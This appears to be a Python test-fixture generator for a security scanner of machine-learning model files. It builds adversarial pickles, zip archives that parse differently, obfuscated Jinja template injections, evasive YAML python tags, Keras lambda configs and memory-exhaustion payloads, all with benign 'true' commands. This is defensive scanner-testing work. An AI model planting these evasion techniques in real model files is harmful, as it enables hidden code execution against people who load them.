"""Hostile files of our own, each named for its technique: what a loader does with it is known from running it.

The files of `hostile` are tricks for any scanner. These were written against an allow-list and a reader that follows
the opcodes: two readings of one archive, formats that a name hides, calls of listed functions that ask for memory, and
formats other than pickle. The payload is `os.system("true")`, or the import of a module that is not there.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import re
import struct
import tarfile
import zlib
from collections.abc import Callable
from pathlib import Path

import joblib
import numpy as np

from security_rows import zips
from security_rows.hostile import CALL, text, zipped
from security_rows.zips import Entry

STEALTH = text("os") + text("system") + b"\x93" + text("true") + b"\x85R."
"""A call without the opcode of a protocol: its bytes begin like a short text."""

ABSENT = "headway_absent"
"""A module of no package: a reference to it imports whatever a reader has under that name."""

IMPORT = f"c{ABSENT}\nThing\n.".encode()
NUMBER = b"K\x010"
"""A number that is pushed and dropped: what follows does not begin like a pickle."""

MAGIC = b"L119547037146038801333356L\n."
LEGACY = (MAGIC, b"I1001\n.", b"(dp0\n.")
"""The three pickles before the object of a legacy torch file, in protocol 0."""

JINJA = "{{ cycler.__init__.__globals__.os.system('true') }}"
LAMBDA = base64.b64encode(marshal.dumps(compile("lambda x: x", "", "eval").co_consts[0])).decode()


def named(module: str, name: str) -> bytes:
    """Return the opcodes that refer to a global."""
    return text(module) + text(name) + b"\x93"


def torch_members(pickled: bytes, more: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """Return the members of a torch archive."""
    return {"m/data.pkl": pickled, "m/version": b"3\n", "m/byteorder": b"little", **(more or {})}


def entries(members: dict[str, bytes]) -> list[Entry]:
    """Return the members as entries of a zip file."""
    return [Entry(name=name.encode(), content=content) for name, content in members.items()]


def utf8_zlib(payload: bytes) -> bytes:
    """Return a zlib stream of a pickle that is text of UTF-8 without a NUL: one stored block, with padding."""
    start = payload[:-1]
    for low in range(0x41, 0x80):
        length = 0xC300 | low
        for number in range(400):
            tail = f"{number:08d}\n0.".encode()
            content = start + b"V" + b"x" * (length - len(start) - 1 - len(tail)) + tail
            checksum = struct.pack(">I", zlib.adler32(content))
            packed = b"\x78\x01\x01" + struct.pack("<HH", length, length ^ 0xFFFF) + content + checksum
            if b"\0" not in checksum and _is_text(packed):
                return packed
    raise ValueError("no such stream")


def _gzip(content: bytes) -> bytes:
    return gzip.compress(content, mtime=0)


def _is_text(content: bytes) -> bool:
    try:
        content.decode()
    except UnicodeDecodeError:
        return False
    return True


def _streams() -> dict[str, bytes]:
    """Compressed pickles under names of texts, and streams that readers end at different places."""
    hidden = utf8_zlib(CALL)
    found = {
        f"utf8-zlib-{name.replace('.', '-')}-{number}{Path('x' + name).suffix if '.' in name else ''}": hidden
        for number, name in enumerate(("model", "model.txt", "notes.md", "notes.rst", "x.license", "x.cff"))
    }
    found["utf8-zlib-unlisted-import.txt"] = utf8_zlib(IMPORT)
    packers: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress,
        "gzip": _gzip,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "lzma": lambda content: lzma.compress(content, format=lzma.FORMAT_ALONE),
        "lzma-small-dictionary": lambda content: lzma.compress(
            content, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
        ),
    }
    for name, pack in packers.items():
        for suffix in (".md", ".csv", ".json", ".onnx", ""):
            found[f"packed-{name}-as-{suffix.strip('.') or 'nothing'}{suffix}"] = pack(STEALTH)
    empty = pickle.dumps({}, 2)
    found["gzip-second-member-after-zeros.gz"] = (
        _gzip(_tar([("a.txt", b"x")], closed=False)) + bytes(32) + _gzip(_tar([("b.pkl", CALL)]))
    )
    # joblib reads zeros after the stream without end: memory grows until the process is stopped.
    found["memory-gzip-before-zeros.joblib"] = _gzip(pickle.dumps([1, 2], 2)) + bytes(40)
    found["gzip-three-members.joblib"] = _gzip(CALL[:3]) + _gzip(CALL[3:]) + _gzip(empty)
    return found


def _tar(members: list[tuple[str, bytes]], *, closed: bool = True) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    content = buffer.getvalue()
    return content if closed else content[: sum(512 + -(-len(content) // 512) * 512 for _, content in members)]


def _archives() -> dict[str, bytes]:
    """Zip files that two readers read differently, or that a reader of something else opens."""
    shown, hidden = entries(torch_members(b"\x80\x02}.")), entries(torch_members(b"\x80\x02" + CALL))
    found = {
        f"zip-two-directories-{where.replace(' ', '-')}.pt": zips.two_directories(shown, hidden, where=where)
        for where in ("entry comment", "archive comment", "before")
    }
    found["zip-64-locator-elsewhere.pt"] = zips.two_records_64(shown, hidden)
    # A name of its own in the extra field of Unicode paths: a storage for one reader, the pickle for another.
    for role, name in (("storage", b"m/data/0"), ("note", b"m/version"), ("text", b"m/readme.txt")):
        path = struct.pack("<BI", 1, zlib.crc32(b"m/data.pkl")) + name
        extra = struct.pack("<HH", 0x7075, len(path)) + path
        members = [
            Entry(name=b"m/data.pkl", content=STEALTH, extra=extra),
            Entry(name=b"m/version", content=b"3"),
            Entry(name=b"m/other/data.pkl", content=b"\x80\x02}."),
        ]
        found[f"zip-unicode-path-{role}.pt"] = zips.archive(members)
    found["zip-storage-without-protocol.pt"] = zipped(torch_members(b"\x80\x02}.", {"m/data/0": STEALTH}), 0)
    found["zip-storage-unlisted-import.pt"] = zipped(torch_members(b"\x80\x02}.", {"m/data/0": IMPORT}), 0)
    found["zip-case-of-names.pt"] = zips.archive([Entry(name=b"m/DATA.PKL", content=b"\x80\x02" + CALL), *shown])
    # A folder is never opened: its offset says that the archive begins at byte 0, where something else is.
    folder = Entry(name=b"d/").central(0)
    legacy = NUMBER + b"".join(LEGACY) + STEALTH
    for name, start in (("call", STEALTH), ("legacy-torch", legacy), ("unlisted-import", NUMBER + IMPORT)):
        for suffix in (".pt", ".zip"):
            found[f"zip-behind-{name}{suffix}"] = start + folder + zips.end(1, len(folder), len(start))
    found["zip-prefix-shifted.pt"] = STEALTH + zips.archive(shown)
    found["zip-comment-is-an-archive.pt"] = zips.archive(shown, comment=zips.archive(hidden))
    found["zip-local-name-differs.pt"] = zips.archive(
        [Entry(name=b"m/data/0", local_name=b"m/data.pkl", content=b"\x80\x02" + CALL), *shown[1:]]
    )
    found["zip-repeated-name.pt"] = zips.archive([*shown, *hidden])
    found["zip-backslash.pt"] = zips.archive([Entry(name=b"m\\data.pkl", content=b"\x80\x02" + CALL), *shown])
    return found


def _texts() -> dict[str, bytes]:
    """Pickles in files that are judged as texts and tables."""
    legacy = NUMBER + b"".join(LEGACY) + CALL
    made = f"ccopy_reg\n_reconstructor\n(c{ABSENT}\nThing\nc__builtin__\nobject\nNtR.".encode()
    # The scan takes what follows the fifth pickle of a legacy torch file for numbers.
    found = {"legacy-torch-sixth-pickle.pt": b"".join(LEGACY) + b"N.]." + CALL}
    for suffix in (".txt", ".md", ".csv", ".tsv", ""):
        name = suffix.strip(".") or "nothing"
        found[f"legacy-torch-as-{name}{suffix}"] = legacy
        found[f"unlisted-import-as-{name}{suffix}"] = NUMBER + IMPORT
        found[f"unlisted-object-as-{name}{suffix}"] = NUMBER + made
    found["unlisted-import-as-yaml.yaml"] = NUMBER + IMPORT
    found["unlisted-import-as-template.j2"] = NUMBER + IMPORT
    return found


def files_of_yaml() -> dict[str, bytes]:
    """Tags of YAML that make objects of Python, spelt so that a pattern does not see them."""
    call = 'object/apply:os.system ["true"]'
    documents = {
        "plain": f"a: !!python/{call}\n",
        "verbatim": 'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["true"]\n',
        "tag-directive": f"%TAG !e! tag:yaml.org,2002:python/\n---\na: !e!{call}\n",
        "tag-directive-primary": f"%TAG ! tag:yaml.org,2002:python/\n---\na: !{call}\n",
        "percent": f"a: !!p%79thon/{call}\n",
        "second-document": f"a: 1\n---\n!!python/{call}\n",
        "name-only": f"a: !!python/name:{ABSENT}.thing ''\n",
        "module-only": f"a: !!python/module:{ABSENT} ''\n",
        "new": 'a: !!python/object/new:os.system ["true"]\n',
        "state": "a: !!python/object/new:str {state: !!python/name:os.system }\n",
        "key": f"? !!python/{call}\n: 1\n",
        "flow": f"[1, {{a: !!python/{call}}}]\n",
    }
    found = {f"yaml-{name}.yaml": document.encode() for name, document in documents.items()}
    for name in ("plain", "verbatim", "tag-directive", "percent"):
        for suffix in (".txt", ".md", ".csv", ""):
            found[f"yaml-{name}-as-{suffix.strip('.') or 'nothing'}{suffix}"] = documents[name].encode()
    found["yaml-utf-16.yaml"] = b"\xff\xfe" + documents["plain"].encode("utf-16-le")
    return found


def files_of_keras() -> dict[str, bytes]:
    """Configurations of Keras that hold marshalled code, or name a function of another module."""
    code = {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}

    def model(layer: dict[str, object]) -> dict[str, object]:
        first = {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "registered_name": None,
            "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "in"},
        }
        return {
            "module": "keras",
            "class_name": "Sequential",
            "registered_name": "Sequential",
            "config": {"name": "s", "layers": [first, layer]},
        }

    lambda_layer: dict[str, object] = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": "l", "function": code, "arguments": {}},
    }
    foreign: dict[str, object] = {
        "module": ABSENT,
        "class_name": "Thing",
        "registered_name": "x>Thing",
        "config": {"name": "l"},
    }
    function: dict[str, object] = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {
            "units": 1,
            "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
        },
    }
    found = {}
    for name, layer in (("lambda", lambda_layer), ("foreign-class", foreign), ("foreign-function", function)):
        whole = json.dumps(model(layer)).encode()
        metadata = json.dumps({"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}).encode()
        found[f"keras-{name}.json"] = whole
        found[f"keras-{name}.keras"] = zipped({"metadata.json": metadata, "config.json": whole})
    spelt = json.dumps(model(lambda_layer)).replace("Lambda", "\\u004cambda").replace("__lambda__", "\\u005f_lambda__")
    found["keras-lambda-escaped.json"] = spelt.encode()
    found["keras-lambda-as-nothing"] = json.dumps(model(lambda_layer)).encode()
    found["keras-lambda-as-txt.txt"] = json.dumps(model(lambda_layer)).encode()
    return found


def _templates() -> dict[str, bytes]:
    """Templates that reach for Python objects without the words that a pattern looks for."""
    obfuscated = {
        "concatenated": "{{ cycler['__in'~'it__']['__glo'~'bals__'].os['sys'~'tem']('true') }}",
        "joined": "{% set u = '_'*2 %}{{ (cycler|attr(u~'init'~u)|attr(u~'globals'~u)).os['sys'+'tem']('true') }}",
        "formatted": "{{ cycler['%sinit%s'%('__','__')]['%sglobals%s'%('__','__')]['os']['sys'~'tem']('true') }}",
        "reversed": "{{ cycler['__tini__'|reverse]['__slabolg__'|reverse]['so'|reverse]['metsys'|reverse]('true') }}",
        "escaped": "{{ cycler['\\x5f_init_\\x5f']['\\x5f_globals_\\x5f'].os['sys\\x74em']('true') }}",
        "lower": "{{ cycler['__INIT__'|lower]['__GLOBALS__'|lower]['OS'|lower]['SYSTEM'|lower]('true') }}",
        "list-join": "{{ cycler[['__','init','__']|join][['__','globals','__']|join]['os']['sys'~'tem']('true') }}",
        "replaced": "{{ lipsum['@@globals@@'|replace('@','_')]['os']['sys'~'tem']('true') }}",
        "far": " " * (1 << 20) + JINJA,
    }
    found = {f"template-{name}.gguf": gguf(template) for name, template in obfuscated.items()}
    found["template-named.gguf"] = gguf(obfuscated["concatenated"], key="tokenizer.chat_template.tool_use")
    for name in ("concatenated", "replaced", "far"):
        found[f"template-{name}.json"] = json.dumps({"chat_template": obfuscated[name]}).encode()
        found[f"template-{name}.j2"] = obfuscated[name].encode()
    found["template-braces-escaped.json"] = (
        json.dumps({"chat_template": JINJA}).replace("{{", "\\u007b\\u007b").replace("__", "\\u005f_").encode()
    )
    found["template-underscores-escaped.json"] = json.dumps({"chat_template": JINJA}).replace("_", "\\u005f").encode()
    header = json.dumps({"__metadata__": {"chat_template": obfuscated["concatenated"]}}).encode()
    found["template-concatenated.safetensors"] = struct.pack("<Q", len(header)) + header
    for suffix in (".txt", ".md"):
        found[f"template-as-{suffix[1:]}{suffix}"] = JINJA.encode()
    return found


def gguf(template: str, *, key: str = "tokenizer.chat_template") -> bytes:
    """Return a GGUF file with a template in its header."""
    name, value = key.encode(), template.encode()
    entry = struct.pack("<Q", len(name)) + name + struct.pack("<IQ", 8, len(value)) + value
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry


def _memory() -> dict[str, bytes]:
    """Small pickles of listed names that overflow the C stack, or ask for gigabytes."""
    start = b"\x80\x04"

    def repeated(one: bytes) -> bytes:
        return start + b"](" + one * 40 + b"e."

    def integer(value: int) -> bytes:
        return b"\x8a\x08" + struct.pack("<q", value)

    dtype = named("numpy", "dtype")
    wide = dtype + text("V16777216") + b"\x85R"
    ndarray, reconstruct = named("numpy", "ndarray"), named("numpy._core.multiarray", "_reconstruct")
    storage = text("storage") + named("torch", "FloatStorage") + text("0") + text("cpu") + integer(1 << 38) + b"N"
    parts = b"\x80\x02" + MAGIC + b"\x80\x02M\xe9\x03." + b"\x80\x02}."
    deep = 300_000
    return {
        "stack-tuple-as-key.pkl": start + b"})" + b"\x85" * deep + b"Ns.",
        "stack-tuple-in-set.pkl": start + b"\x8f()" + b"\x85" * deep + b"\x90.",
        "stack-tuple-in-frozenset.pkl": start + b"()" + b"\x85" * deep + b"\x91.",
        "stack-slices.pkl": start + _nested_calls("builtins", "slice", 400_000, b"NN", b"\x87R"),
        "stack-itemgetters.pkl": start + _nested_calls("operator", "itemgetter", 400_000, b"", b"\x85R"),
        # numpy does not check the fields of a type: other objects are read as types.
        "crash-dtype-field.pkl": start + ndarray + b"K\x01\x85" + _structured(b"C\x08" + bytes(8)) + b"\x86\x81.",
        "crash-dtype-field-tuple.pkl": start
        + ndarray
        + b"K\x01\x85"
        + _structured(dtype + text("f8") + b"\x85R\x85")
        + b"\x86\x81.",
        "memory-wide-dtype.pkl": start + ndarray + integer(1 << 20) + b"\x85" + wide + b"\x86\x81.",
        "memory-wide-reconstruct.pkl": start + reconstruct + ndarray + integer(1 << 20) + b"\x85" + wide + b"\x87R.",
        "memory-many-arrays.pkl": repeated(
            ndarray + integer(1 << 24) + b"\x85" + dtype + text("f8") + b"\x85R\x86\x81"
        ),
        "memory-many-reconstructed.pkl": repeated(
            reconstruct + ndarray + integer(1 << 24) + b"\x85" + text("d") + b"\x87R"
        ),
        "memory-masked-reconstruct.pkl": start
        + named("numpy.ma.core", "_mareconstruct")
        + b"("
        + named("numpy.ma.core", "MaskedArray")
        + ndarray
        + integer(1 << 40)
        + b"\x85"
        + text("b")
        + b"tR.",
        "memory-torch-legacy-storage.pt": parts + b"\x80\x02(" + storage + b"tQ." + b"\x80\x02].",
        "memory-decimal.pkl": start
        + named("builtins", "int")
        + named("decimal", "Decimal")
        + text("9E99999999")
        + b"\x85R\x85R.",
        "memory-fraction.pkl": start + named("fractions", "Fraction") + text("1E99999999") + b"\x85R.",
    }


def _structured(field: bytes) -> bytes:
    """Return the opcodes of a type of one field, which is pushed by `field`."""
    entry = b"}" + text("a") + field + b"K\x00\x86s"
    state = b"(K\x03" + text("|") + b"N" + text("a") + b"\x85" + entry + b"K\x08K\x01K\x10t"
    return named("numpy", "dtype") + text("V8") + b"\x85R" + state + b"b"


def _nested_calls(module: str, name: str, depth: int, before: bytes, after: bytes) -> bytes:
    """Return the opcodes of calls whose argument is the last call's result; the stack stays small."""
    step = b"q\x010h\x00" + before + b"h\x01" + after
    return text(module) + text(name) + b"\x93q\x00" + step * depth + b"."


def _joblib() -> dict[str, bytes]:
    """Files of joblib that another reader of pickles reads further than joblib does."""
    found = {}
    evil = b"cnumpy.core\n_ufunc_reconstruct\n(Vos\nVsystem\ntR(Vtrue\ntR" + b"\xff"
    imported = f"cnumpy.core\n_ufunc_reconstruct\n(V{ABSENT}\nVthing\ntR".encode() + b"\xff"
    hooked = b"csklearn.svm\nSVC\n)\x81}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsbVtrue\nb" + b"\xff"
    for name, content in (("call", evil), ("import", imported), ("hook", hooked)):
        buffer = io.BytesIO()
        joblib.dump({"weights": np.frombuffer(content.ljust(-(-len(content) // 8) * 8, b"\xff"), np.uint8)}, buffer)
        # Without alignment, as older versions of joblib write, the numbers follow the last opcode at once.
        aligned = re.compile(rb"K\x10ub(.)\xff*", re.DOTALL).search(buffer.getvalue())
        assert aligned is not None
        start, numbers = buffer.getvalue()[: aligned.start()], aligned.end(1) + aligned[1][0]
        found[f"joblib-array-is-opcodes-{name}.joblib"] = start + b"N\x94ub" + buffer.getvalue()[numbers:]
    buffer = io.BytesIO()
    joblib.dump({"weights": np.zeros(4)}, buffer)
    plain = buffer.getvalue()
    found["joblib-call-after-array.joblib"] = plain[:-1] + b"0" + STEALTH
    return found


def _arrays() -> dict[str, bytes]:
    """Arrays of objects, and headers that numpy reads in another way."""

    def npy(header: str, body: bytes, version: int = 1) -> bytes:
        size = struct.pack("<H" if version == 1 else "<I", len(header))
        return b"\x93NUMPY" + bytes([version, 0]) + size + header.encode() + body

    objects = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    fields = "{'descr': [('a', '<f8'), ('b', 'O')], 'fortran_order': False, 'shape': (1,), }\n"
    titled = "{'descr': [(('a', 'b'), '|O')], 'fortran_order': False, 'shape': (1,), }\n"
    other = "{'shape': (1,), 'descr': '|O', 'fortran_order': False}\n"
    return {
        "npy-objects-without-protocol.npy": npy(objects, STEALTH),
        "npy-objects-version-2.npy": npy(objects, STEALTH, 2),
        "npy-objects-version-3.npy": npy(objects, STEALTH, 3),
        "npy-object-field.npy": npy(fields, STEALTH),
        "npy-titled-field.npy": npy(titled, STEALTH),
        "npy-other-order.npy": npy(other, STEALTH),
        "npz-member-is-a-pickle.npz": zipped({"a.npy": STEALTH}),
        "npz-unlisted-member.npz": zipped({"a.npy": NUMBER + IMPORT}),
    }


def files() -> dict[str, bytes]:
    """Return every hostile file by a name that says its technique."""
    return (
        _streams()
        | _archives()
        | _texts()
        | files_of_yaml()
        | files_of_keras()
        | _templates()
        | _memory()
        | _joblib()
        | _arrays()
    )


def write(folder: Path) -> None:
    """Write every hostile file to a folder."""
    for name, content in files().items():
        (folder / name).write_bytes(content)
